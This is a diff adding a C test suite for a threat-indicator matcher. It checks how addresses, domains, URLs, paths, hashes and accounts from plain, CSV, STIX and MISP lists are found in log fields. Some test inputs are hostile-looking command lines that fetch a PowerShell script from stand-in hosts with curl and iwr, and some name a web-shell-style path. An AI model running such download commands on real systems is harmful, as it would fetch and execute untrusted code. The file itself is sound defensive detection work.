@@ -1,0 +1,431 @@
+/* Indicators: what lists are understood, what is found in which field and what only looks like it,
+ * and what a match is worth. */
+#include "base/buf.h"
+#include "detect/indicators/indicators.h"
+#include "kit.h"
+
+struct scene {
+    struct arena arena;
+    struct names names;
+    struct indicators *set;
+    struct indicator_run *run;
+    char told[2048];
+};
+
+static void scene_open(struct scene *s)
+{
+    *s = (struct scene){.told = ""};
+    arena_init(&s->arena, 256 << 20);
+    CHECK(names_init(&s->names, &s->arena));
+    indicators_names(&s->names);
+    s->set = indicators_new(&s->arena, &s->names, (struct hash_key){1, 2});
+    CHECK(s->set);
+}
+
+static void scene_read(struct scene *s, const char *file, const char *text)
+{
+    indicators_read(s->set, str_of(file), bytes_of_str(str_of(text)));
+}
+
+static void scene_build(struct scene *s)
+{
+    indicators_build(s->set);
+    s->run = indicator_run_new(s->set);
+}
+
+static void scene_of(struct scene *s, const char *list)
+{
+    scene_open(s);
+    scene_read(s, "list", list);
+    scene_build(s);
+}
+
+static void scene_close(struct scene *s)
+{
+    indicator_run_free(s->run);
+    indicators_done(s->set);
+    arena_done(&s->arena);
+}
+
+static str field_of(const struct indicator_hit *hit, const char *name)
+{
+    for (size_t i = 0; i < hit->nfields; i++) {
+        if (str_eq(hit->fields[i].name, str_of(name))) {
+            return hit->fields[i].value;
+        }
+    }
+    return STR_NONE;
+}
+
+static void on_hit(void *ctx, const struct indicator_hit *hit)
+{
+    struct scene *s = ctx;
+    size_t len = strlen(s->told);
+    str id = str_from(indicators_rule(s->set, hit->rule)->id, sizeof "indicator-" - 1);
+    (void)snprintf(s->told + len, sizeof s->told - len, "%s%.*s=%.*s", len ? " " : "", STR_ARG(id),
+                   STR_ARG(field_of(hit, "Indicator")));
+}
+
+static str look_at(struct scene *s, const char *name, str value, usec time, const char *channel,
+                   uint32_t event_id)
+{
+    const struct origin origin = {.channel = str_of(channel), .event_id = event_id};
+    const struct field f = {str_of(name), bytes_of_str(value).p, (uint32_t)value.len,
+                            names_find(&s->names, str_of(name)), VALUE_TEXT};
+    const struct event e = {.time = time, .origin = &origin, .fields = &f, .nfields = 1};
+    s->told[0] = 0;
+    for (int twice = 0; twice < 2; twice++) { /* the second time from what is remembered */
+        s->told[0] = 0;
+        indicator_run_event(s->run, &e, &s->arena, on_hit, s);
+    }
+    return str_of(s->told);
+}
+
+static str in(struct scene *s, const char *field, const char *value)
+{
+    return look_at(s, field, str_of(value), TIME_NONE, "x", 0);
+}
+
+static void an_address_is_found_as_a_whole_and_in_every_spelling(void)
+{
+    struct scene s;
+    scene_of(&s, "1.2.3.4\n2001:db8::5\n");
+    CHECK_STR(in(&s, "c-ip", "1.2.3.4"), "address-connected=1.2.3.4");
+    CHECK_STR(in(&s, "c-ip", "1.2.3.4:50123"), "address-connected=1.2.3.4:50123");
+    CHECK_STR(in(&s, "c-ip", "::ffff:1.2.3.4"), "address-connected=::ffff:1.2.3.4");
+    CHECK_STR(in(&s, "c-ip", "2001:0DB8:0:0::5"), "address-connected=2001:0DB8:0:0::5");
+    CHECK_STR(in(&s, "c-ip", "[2001:db8::5]:443"), "address-connected=[2001:db8::5]:443");
+    CHECK_STR(in(&s, "c-ip", "11.2.3.45"), "");
+    CHECK_STR(in(&s, "c-ip", "1.2.3.40"), "");
+    CHECK_STR(in(&s, "c-ip", "2001:db8::51"), "");
+    CHECK_STR(in(&s, "c-ip", "-"), "");
+    CHECK_STR(in(&s, "CommandLine", "curl -k https://1.2.3.4:8443/a.ps1"),
+              "address-executed=1.2.3.4:8443");
+    CHECK_STR(in(&s, "CommandLine", "ping 1.2.3.4."), "address-executed=1.2.3.4");
+    CHECK_STR(in(&s, "CommandLine", "setup-11.2.3.4.exe 1.2.3.4.5 v1.2.3.4"), "");
+    CHECK_STR(in(&s, "cs-uri-query", "target=http%3A%2F%2F1.2.3.4%2Fx&b=1"),
+              "address-mentioned=1.2.3.4");
+    CHECK_STR(in(&s, "cs-uri-query", "target=11.2.3.4&b=1.2.3.45"), "");
+    scene_close(&s);
+}
+
+static void a_network_holds_its_addresses_and_no_others(void)
+{
+    struct scene s;
+    scene_of(&s, "10.20.0.0/14\n2001:db8:1::/48\n");
+    CHECK_STR(in(&s, "SourceIp", "10.23.255.255"), "network-connected=10.23.255.255");
+    CHECK_STR(in(&s, "SourceIp", "2001:db8:1:ffff::"), "network-connected=2001:db8:1:ffff::");
+    CHECK_STR(in(&s, "SourceIp", "2001:db8:2::1"), "");
+    scene_close(&s);
+    scene_of(&s, "10.20.0.0/14\n");
+    CHECK_STR(in(&s, "SourceIp", "10.24.0.0"), "");
+    CHECK_STR(in(&s, "SourceIp", "10.19.255.255"), "");
+    scene_close(&s);
+}
+
+static void a_domain_is_found_with_its_subdomains_at_borders_of_labels(void)
+{
+    struct scene s;
+    scene_of(&s, "evil.example\nb\xc3\xbc"
+                 "cher.example\n");
+    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
+    CHECK_STR(in(&s, "QueryName", "WWW.Evil.Example."), "domain-resolved=evil.example");
+    CHECK_STR(in(&s, "QueryName", "devil.example"), "");
+    CHECK_STR(in(&s, "QueryName", "evil.example.org"), "");
+    CHECK_STR(in(&s, "QueryName", "example"), "");
+    CHECK_STR(in(&s, "QueryName", "xn--bcher-kva.example"),
+              "domain-resolved=xn--bcher-kva.example");
+    CHECK_STR(in(&s, "QueryName",
+                 "www.B\xc3\x9c"
+                 "CHER.example"),
+              "domain-resolved=xn--bcher-kva.example");
+    CHECK_STR(in(&s, "cs-host", "a.evil.example:8080"), "domain-visited=evil.example");
+    CHECK_STR(in(&s, "cs-referer", "https://u:p@c.evil.example/x?y"),
+              "domain-mentioned=evil.example");
+    CHECK_STR(in(&s, "Message", "mail from bob@evil.example, read"),
+              "domain-mentioned=evil.example");
+    CHECK_STR(in(&s, "Message", "see not-evil.example or evil.examples"), "");
+    scene_close(&s);
+}
+
+static void a_url_is_found_whatever_its_scheme_and_query(void)
+{
+    struct scene s;
+    scene_of(&s, "hxxp://bad[.]example/Drop/a.ps1\nbad.example:8080/x\n");
+    CHECK_STR(in(&s, "c-uri", "http://BAD.example/Drop/a.ps1"),
+              "url-visited=http://BAD.example/Drop/a.ps1");
+    CHECK_STR(in(&s, "c-uri", "https://bad.example:443/Drop/a.ps1?x=1#y"),
+              "url-visited=https://bad.example:443/Drop/a.ps1");
+    CHECK_STR(in(&s, "CommandLine", "iwr 'http://bad.example/Drop/a.ps1' -o x"),
+              "url-executed=http://bad.example/Drop/a.ps1");
+    CHECK_STR(in(&s, "c-uri", "http://bad.example:8080/x"),
+              "url-visited=http://bad.example:8080/x");
+    CHECK_STR(in(&s, "c-uri", "http://bad.example/drop/a.ps1"), "");
+    CHECK_STR(in(&s, "c-uri", "http://bad.example/Drop/a.ps12"), "");
+    CHECK_STR(in(&s, "c-uri", "http://bad.example/x"), "");
+    scene_close(&s);
+}
+
+static void a_path_is_found_from_a_folder_on_and_a_rooted_one_as_a_whole(void)
+{
+    struct scene s;
+    scene_of(&s, "owa\\auth\\Bad.aspx\n/tmp/.x\nC:\\Windows\\Temp\\p.dat\n");
+    CHECK_STR(in(&s, "TargetFilename", "C:\\inetpub\\OWA\\auth\\bad.ASPX"),
+              "path-written=owa\\auth\\bad.aspx");
+    CHECK_STR(in(&s, "TargetFilename", "C:\\inetpub\\xowa\\auth\\bad.aspx"), "");
+    CHECK_STR(in(&s, "TargetFilename", "C:\\owa\\auth\\bad.aspx.txt"), "");
+    CHECK_STR(in(&s, "exe", "/tmp/.x"), "path-executed=\\tmp\\.x");
+    CHECK_STR(in(&s, "exe", "/var/tmp/.x"), "");
+    CHECK_STR(in(&s, "Image", "C:/windows/temp/p.dat"), "path-executed=c:\\windows\\temp\\p.dat");
+    CHECK_STR(in(&s, "Image", "D:\\windows\\temp\\p.dat"), "");
+    scene_close(&s);
+}
+
+static void a_file_name_is_the_last_part_of_a_path(void)
+{
+    struct scene s;
+    scene_of(&s, "lsass32.exe\n");
+    CHECK_STR(in(&s, "Image", "C:\\Users\\a\\LSASS32.exe"), "filename-executed=LSASS32.exe");
+    CHECK_STR(in(&s, "CommandLine", "cmd /c \"c:\\t\\lsass32.exe\" -p"),
+              "filename-executed=lsass32.exe");
+    CHECK_STR(in(&s, "Image", "C:\\lsass32.exe\\a.exe"), "");
+    CHECK_STR(in(&s, "Image", "C:\\xlsass32.exe"), "");
+    scene_close(&s);
+}
+
+static void a_hash_is_found_in_lists_of_hashes_and_says_what_became_of_its_file(void)
+{
+    static const char md5[] = "0123456789abcdef0123456789ABCDEF";
+    struct scene s;
+    scene_of(&s, "0123456789ABCDEF0123456789abcdef\n");
+    char all[256];
+    (void)snprintf(all, sizeof all, "SHA1=%040d,MD5=%s", 7, md5);
+    str want =
+        look_at(&s, "Hashes", str_of(all), TIME_NONE, "Microsoft-Windows-Sysmon/Operational", 1);
+    CHECK_STR(want, "hash-executed=0123456789abcdef0123456789ABCDEF");
+    want =
+        look_at(&s, "Hashes", str_of(all), TIME_NONE, "Microsoft-Windows-Sysmon/Operational", 11);
+    CHECK_STR(want, "hash-written=0123456789abcdef0123456789ABCDEF");
+    CHECK_STR(in(&s, "md5", md5), "hash-seen=0123456789abcdef0123456789ABCDEF");
+    CHECK_STR(in(&s, "Message", "file 0123456789abcdef0123456789abcdef removed"),
+              "hash-mentioned=0123456789abcdef0123456789abcdef");
+    CHECK_STR(in(&s, "Message", "0123456789abcdef0123456789abcdef0"), "");
+    CHECK_STR(in(&s, "md5", "0123456789abcdef0123456789abcdee"), "");
+    scene_close(&s);
+}
+
+static void a_file_of_the_evidence_is_found_by_its_hash_and_its_place(void)
+{
+    uint8_t sha256[32];
+    struct scene s;
+    scene_of(&s,
+             "abababababababababababababababababababababababababababababababab\nauth\\x.aspx\n");
+    memset(sha256, 0xab, sizeof sha256);
+    indicator_run_file(s.run, STR("C:\\web\\auth\\X.aspx"), sha256, &s.arena, on_hit, &s);
+    CHECK_STR(str_of(s.told),
+              "path-seen=auth\\x.aspx "
+              "hash-seen=abababababababababababababababababababababababababababababababab");
+    s.told[0] = 0;
+    indicator_run_file(s.run, STR("C:\\web\\auth\\y.aspx"), NULL, &s.arena, on_hit, &s);
+    CHECK_STR(str_of(s.told), "");
+    scene_close(&s);
+}
+
+static void mail_agents_and_accounts_are_found_where_they_are_meant(void)
+{
+    struct scene s;
+    scene_of(&s, "Bob@Evil.example\nuser-agent: Harmless/1.0 (x)\naccount: svc_x\n");
+    CHECK_STR(in(&s, "sender-address", "bob@evil.EXAMPLE"), "email-mentioned=bob@evil.EXAMPLE");
+    CHECK_STR(in(&s, "sender-address", "xbob@evil.example"), "");
+    CHECK_STR(in(&s, "cs-user-agent", "Harmless/1.0+(x)"), "user-agent-connected=Harmless/1.0+(x)");
+    CHECK_STR(in(&s, "cs-user-agent", "Harmless/1.0"), "");
+    CHECK_STR(in(&s, "User", "CORP\\SVC_X"), "account-seen=CORP\\SVC_X");
+    CHECK_STR(in(&s, "User", "CORP\\svc_xy"), "");
+    scene_close(&s);
+}
+
+static void a_field_that_means_nothing_is_not_looked_into(void)
+{
+    struct scene s;
+    scene_of(&s, "1.2.3.4\n");
+    CHECK_STR(in(&s, "FileVersion", "1.2.3.4"), "");
+    scene_close(&s);
+}
+
+static void confidence_validity_and_caveats_decide_what_a_match_is_worth(void)
+{
+    struct scene s;
+    scene_open(&s);
+    scene_read(&s, "a.csv",
+               "type,value,incident,actor,confidence,valid_from,valid_until\n"
+               "ipv4,192.0.2.1,Wave,Somebody,95,,\n"
+               "ipv4,192.0.2.2,Wave,Somebody,20,,\n"
+               "ipv4,192.0.2.3,Wave,Somebody,95,2021-01-01,2021-02-01\n"
+               "ipv4,192.0.2.4,Wave,Somebody,95,,\n"
+               "ipv4,192.0.2.5,Wave,benign,95,,\n");
+    scene_read(&s, "notes.csv",
+               "type,value,note\nipv4,192.0.2.4,\"a server, shared\"\n"
+               "ipv4,192.0.2.9,not in any list\n");
+    scene_build(&s);
+    CHECK_INT(indicators_total(s.set), 5);
+    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.2"), "address-connected-weak=192.0.2.2");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.4"), "address-connected-weak=192.0.2.4");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.5"), "address-connected-context=192.0.2.5");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.9"), "");
+    usec within = time_parse(STR("2021-01-15")), after = time_parse(STR("2021-03-01"));
+    CHECK_STR(look_at(&s, "c-ip", STR("192.0.2.3"), within, "x", 0), "address-connected=192.0.2.3");
+    CHECK_STR(look_at(&s, "c-ip", STR("192.0.2.3"), after, "x", 0),
+              "address-connected-weak=192.0.2.3");
+    for (uint32_t i = 0; i < indicators_rule_count(s.set); i++) {
+        CHECK_INT(indicators_rule(s.set, i)->rung, RUNG_NONE);
+        CHECK(indicators_rule(s.set, i)->weight <= WEIGHT_LEAD);
+    }
+    scene_close(&s);
+}
+
+static void stix_patterns_of_equalities_are_read_and_others_told_by_id(void)
+{
+    struct scene s;
+    scene_of(
+        &s, "{\"type\":\"bundle\",\"objects\":["
+            "{\"type\":\"indicator\",\"id\":\"indicator--1\",\"name\":\"One\",\"pattern\":"
+            "\"[ipv4-addr:value = '192.0.2.1' OR domain-name:value = 'evil.example']\"},"
+            "{\"type\":\"indicator\",\"id\":\"indicator--2\",\"pattern\":"
+            "\"[file:name = 'a.exe' AND file:hashes.'MD5' = '0123456789abcdef0123456789abcdef']\"},"
+            "{\"type\":\"indicator\",\"id\":\"indicator--3\",\"pattern\":"
+            "\"[ipv4-addr:value = '192.0.2.9'] FOLLOWEDBY [ipv4-addr:value = '192.0.2.8']\"},"
+            "{\"type\":\"indicator\",\"id\":\"indicator--4\",\"revoked\":true,\"pattern\":"
+            "\"[ipv4-addr:value = '192.0.2.7']\"},"
+            "{\"type\":\"indicator\",\"id\":\"indicator--5\",\"pattern_type\":\"yara\","
+            "\"pattern\":\"rule x { condition: true }\"}]}");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
+    CHECK_STR(in(&s, "QueryName", "a.evil.example"), "domain-resolved=evil.example");
+    CHECK_STR(in(&s, "Image", "C:\\a.exe"), "filename-executed-weak=a.exe");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.9"), "");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.7"), "");
+    CHECK_INT(indicators_refused(s.set), 2);
+    CHECK_STR(indicators_problem(s.set, 0)->rule, "indicator--3");
+    CHECK_STR(indicators_problem(s.set, 1)->rule, "indicator--5");
+    scene_close(&s);
+}
+
+static void misp_attributes_for_detection_are_read(void)
+{
+    struct scene s;
+    scene_of(&s, "{\"Event\":{\"info\":\"Wave\",\"Attribute\":["
+                 "{\"type\":\"ip-dst|port\",\"value\":\"192.0.2.1|443\",\"to_ids\":true},"
+                 "{\"type\":\"filename|md5\",\"to_ids\":true,"
+                 "\"value\":\"x.exe|0123456789abcdef0123456789abcdef\"},"
+                 "{\"type\":\"ip-dst\",\"value\":\"192.0.2.2\",\"to_ids\":false}],"
+                 "\"Object\":[{\"Attribute\":[{\"type\":\"domain|ip\",\"to_ids\":true,"
+                 "\"value\":\"evil.example|192.0.2.3\"}]}]}}");
+    CHECK_INT(indicators_total(s.set), 4);
+    CHECK_INT(indicators_refused(s.set), 0);
+    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.2"), "");
+    CHECK_STR(in(&s, "c-ip", "192.0.2.3"), "address-connected=192.0.2.3");
+    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
+    CHECK_STR(in(&s, "Image", "C:\\x.exe"), "");
+    scene_close(&s);
+}
+
+static void what_is_not_understood_is_told_with_its_line(void)
+{
+    struct scene s;
+    scene_of(&s, "# a list\n1.2.3.4\nhello\n999.1.1.1\n\nevil.example # remark\n");
+    CHECK_INT(indicators_total(s.set), 2);
+    CHECK_INT(indicators_refused(s.set), 2);
+    CHECK_INT(indicators_problem(s.set, 0)->line, 3);
+    CHECK_STR(indicators_problem(s.set, 0)->rule, "hello");
+    CHECK_INT(indicators_problem(s.set, 1)->line, 4);
+    scene_close(&s);
+}
+
+static void hostile_lists_cost_their_own_lines_and_no_others(void)
+{
+    static const char nuls[] = "1.2.3.4\nevil\0.example\n5.6.7.8\n";
+    struct scene s;
+    scene_open(&s);
+    indicators_read(s.set, STR("nuls"), (bytes){(const uint8_t *)nuls, sizeof nuls - 1});
+    scene_read(&s, "csv", "type,value\n\"ipv4,9.9.9.9\nipv4,8.8.8.8\nipv4\nmd5,zz\n,,,,,\n");
+    scene_read(&s, "json", "{\"objects\":[{\"pattern\":\"[ipv4-addr:value='7.7.7.7']\"},{]");
+    SCOPED(buf_done) struct buf deep;
+    buf_init(&deep, 1 << 20);
+    for (int i = 0; i < 100000; i++) {
+        buf_add(&deep, STR("{\"a\":"));
+    }
+    indicators_read(s.set, STR("deep"), bytes_of_str(buf_str(&deep)));
+    SCOPED(buf_done) struct buf line;
+    buf_init(&line, 32 << 20);
+    for (int i = 0; i < 1 << 20; i++) {
+        buf_add(&line, STR("aaaaaaaaaaaaaaaa"));
+    }
+    buf_add(&line, STR("\n6.6.6.6\n"));
+    indicators_read(s.set, STR("long"), bytes_of_str(buf_str(&line)));
+    scene_build(&s);
+    CHECK_STR(in(&s, "c-ip", "1.2.3.4"), "address-connected=1.2.3.4");
+    CHECK_STR(in(&s, "c-ip", "5.6.7.8"), "address-connected=5.6.7.8");
+    CHECK_STR(in(&s, "c-ip", "6.6.6.6"), "address-connected=6.6.6.6");
+    CHECK_STR(in(&s, "c-ip", "7.7.7.7"), "address-connected=7.7.7.7");
+    CHECK_STR(in(&s, "c-ip", "8.8.8.8"), "address-connected=8.8.8.8");
+    CHECK_INT(indicators_refused(s.set), 7);
+    scene_close(&s);
+}
+
+static void a_set_takes_less_than_32_bytes_an_indicator(void)
+{
+    enum { MANY = 100000 };
+    struct scene s;
+    SCOPED(buf_done) struct buf list;
+    scene_open(&s);
+    buf_init(&list, 16 << 20);
+    for (int i = 0; i < MANY; i++) {
+        buf_printf(&list, "host%d.long-name-of-a-domain.example\n", i);
+    }
+    indicators_read(s.set, STR("many"), bytes_of_str(buf_str(&list)));
+    scene_build(&s);
+    CHECK_INT(indicators_total(s.set), MANY);
+    CHECK(indicators_bytes(s.set) < (size_t)32 * MANY);
+    int found = 0;
+    for (int i = 0; i < 2 * MANY; i += 97) {
+        char name[64];
+        (void)snprintf(name, sizeof name, "host%d.long-name-of-a-domain.example", i);
+        bool hit = in(&s, "QueryName", name).len > 0;
+        CHECK_INT(hit, i < MANY);
+        found += hit;
+    }
+    CHECK(found > 1000);
+    scene_close(&s);
+}
+
+static void several_in_one_event_are_all_told(void)
+{
+    struct scene s;
+    scene_of(&s, "1.2.3.4\n5.6.7.8\n1.2.3.4\n");
+    CHECK_STR(in(&s, "Message", "1.2.3.4 and 5.6.7.8"), "address-mentioned=1.2.3.4");
+    CHECK_INT(indicators_total(s.set), 3);
+    scene_close(&s);
+}
+
+int main(void)
+{
+    RUN(an_address_is_found_as_a_whole_and_in_every_spelling);
+    RUN(a_network_holds_its_addresses_and_no_others);
+    RUN(a_domain_is_found_with_its_subdomains_at_borders_of_labels);
+    RUN(a_url_is_found_whatever_its_scheme_and_query);
+    RUN(a_path_is_found_from_a_folder_on_and_a_rooted_one_as_a_whole);
+    RUN(a_file_name_is_the_last_part_of_a_path);
+    RUN(a_hash_is_found_in_lists_of_hashes_and_says_what_became_of_its_file);
+    RUN(a_file_of_the_evidence_is_found_by_its_hash_and_its_place);
+    RUN(mail_agents_and_accounts_are_found_where_they_are_meant);
+    RUN(a_field_that_means_nothing_is_not_looked_into);
+    RUN(confidence_validity_and_caveats_decide_what_a_match_is_worth);
+    RUN(stix_patterns_of_equalities_are_read_and_others_told_by_id);
+    RUN(misp_attributes_for_detection_are_read);
+    RUN(what_is_not_understood_is_told_with_its_line);
+    RUN(hostile_lists_cost_their_own_lines_and_no_others);
+    RUN(a_set_takes_less_than_32_bytes_an_indicator);
+    RUN(several_in_one_event_are_all_told);
+    return kit_end();
+}
